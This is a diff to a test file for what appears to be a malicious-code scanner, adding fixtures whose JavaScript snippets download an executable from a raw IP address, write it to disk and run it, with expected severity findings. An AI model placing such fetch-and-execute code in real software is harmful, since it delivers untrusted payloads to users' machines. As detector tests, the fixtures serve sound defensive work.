@@ -36,5 +36,33 @@ request.get(base + '/pdown', (e, r, body) => {
 `,
       findings: [{ line: 3, severity: 'critical', confidence: 'high', message: /\/pdown route, p\.zip \/ p2\.zip archive, ~\/\.pyp portable Python/ }],
     },
+    {
+      name: 'updater downloads an .exe from a raw IP, writes it and runs the written file',
+      file: 'main.js',
+      code: [
+        "const fs = require('fs');",
+        "const { execFile } = require('child_process');",
+        "const dst = require('path').join(require('os').tmpdir(), 'updater.exe');",
+        "fetch('http://95.164.17.24:8080/update/win').then((r) => r.arrayBuffer()).then((b) => {",
+        '  fs.writeFileSync(dst, Buffer.from(b));',
+        '  execFile(dst, [], { windowsHide: true });',
+        '});',
+      ].join('\n'),
+      findings: [{ line: 6, severity: 'critical', confidence: 'high', message: /fetched, written to disk and executed/ }],
+    },
+    {
+      name: 'same raw-IP download probed with --version: stays high/medium',
+      file: 'install.js',
+      code: [
+        "const fs = require('fs');",
+        "const { execFileSync } = require('child_process');",
+        "const bin = __dirname + '/bin/tool';",
+        "fetch('http://95.164.17.24/tool').then((r) => r.arrayBuffer()).then((b) => {",
+        '  fs.writeFileSync(bin, Buffer.from(b));',
+        "  execFileSync(bin, ['--version']);",
+        '});',
+      ].join('\n'),
+      findings: [{ line: 6, severity: 'high', confidence: 'medium' }],
+    },
   ],
 });
